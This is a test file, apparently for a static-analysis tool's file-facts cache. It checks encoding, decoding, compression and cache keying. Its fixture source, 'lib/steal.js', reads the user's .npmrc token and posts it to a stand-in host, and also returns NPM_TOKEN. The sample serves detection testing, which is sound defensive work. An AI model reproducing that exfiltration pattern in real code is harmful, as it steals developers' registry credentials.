import { describe, expect, it } from 'vitest';
import { extractFileFacts } from './facts/extract-file.js';
import { createFileFactsCache, decodeFileFacts, encodeFileFacts } from './file-facts-cache.js';

const SOURCE = [
  "const fs = require('fs');",
  "const https = require('https');",
  "const os = require('os');",
  "const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');",
  "const req = https.request({ hostname: 'collector.invalid', method: 'POST' });",
  'req.write(token);',
  'function secret() { return process.env.NPM_TOKEN; }',
  'module.exports = { token, secret };',
  ...Array.from({ length: 60 }, (_, i) => `fetch('https://mirror-${i}.example.invalid/feed');`),
  '',
].join('\n');

describe('encodeFileFacts / decodeFileFacts', () => {
  it('round-trips facts, flows pointing at the same objects as the facts array, and exports', () => {
    const extracted = extractFileFacts('lib/steal.js', SOURCE);
    expect(extracted.facts.some((f) => f.kind === 'flow')).toBe(true);
    expect(extracted.exports?.names.size).toBeGreaterThan(0);
    const decoded = decodeFileFacts(encodeFileFacts(extracted));
    expect(decoded).toEqual(extracted);
    for (const fact of decoded?.facts ?? []) {
      if (fact.kind !== 'flow') continue;
      const original = extracted.facts[decoded!.facts.indexOf(fact)];
      if (original?.kind !== 'flow') throw new Error('order changed');
      // Shared in the original ⇒ shared in the copy.
      expect(decoded!.facts.includes(fact.from)).toBe(extracted.facts.includes(original.from));
    }
  });

  it('deflates big entries', () => {
    const extracted = extractFileFacts('lib/steal.js', SOURCE);
    const encoded = encodeFileFacts(extracted);
    expect(encoded[0]).toBe(1);
    expect(encoded.byteLength).toBeLessThan(JSON.stringify(extracted.facts).length);
  });

  it('reads anything else as a miss, never a throw', () => {
    for (const bad of [
      Uint8Array.of(),
      Uint8Array.of(7, 1, 2),
      Uint8Array.of(1, 0xff, 0xfe),
      Buffer.concat([Buffer.of(0), Buffer.from('{"v":1}')]),
      Buffer.concat([Buffer.of(0), Buffer.from('{"v":99,"stats":{"file":"a"},"facts":[]}')]),
      Buffer.concat([
        Buffer.of(0),
        Buffer.from('{"v":1,"stats":{"file":"a"},"facts":[{"kind":"flow","from":9,"to":0}]}'),
      ]),
    ])
      expect(decodeFileFacts(bad)).toBeUndefined();
  });
});

describe('createFileFactsCache', () => {
  it('keys by analyser version, path and bytes; every get returns fresh objects', () => {
    const cache = createFileFactsCache('1.0.0');
    const bytes = new TextEncoder().encode(SOURCE);
    const key = cache.key('a.js', bytes);
    expect(cache.key('a.js', bytes)).toBe(key);
    expect(cache.key('b.js', bytes)).not.toBe(key);
    expect(createFileFactsCache('1.0.1').key('a.js', bytes)).not.toBe(key);
    expect(cache.key('a.js', new TextEncoder().encode(`${SOURCE} `))).not.toBe(key);

    expect(cache.get(key)).toBeUndefined();
    cache.put(key, extractFileFacts('a.js', SOURCE));
    const one = cache.get(key);
    const two = cache.get(key);
    expect(one).toEqual(two);
    expect(one).not.toBe(two);
    expect(one?.facts[0]).not.toBe(two?.facts[0]);
    expect(cache.stats).toEqual({ hits: 2, misses: 1, stored: 1 });
  });

  it('takes a corrupt backend entry for a miss', () => {
    const cache = createFileFactsCache('1.0.0', { get: () => Uint8Array.of(1, 2, 3) });
    expect(cache.get('k')).toBeUndefined();
    expect(cache.stats.misses).toBe(1);
  });
});
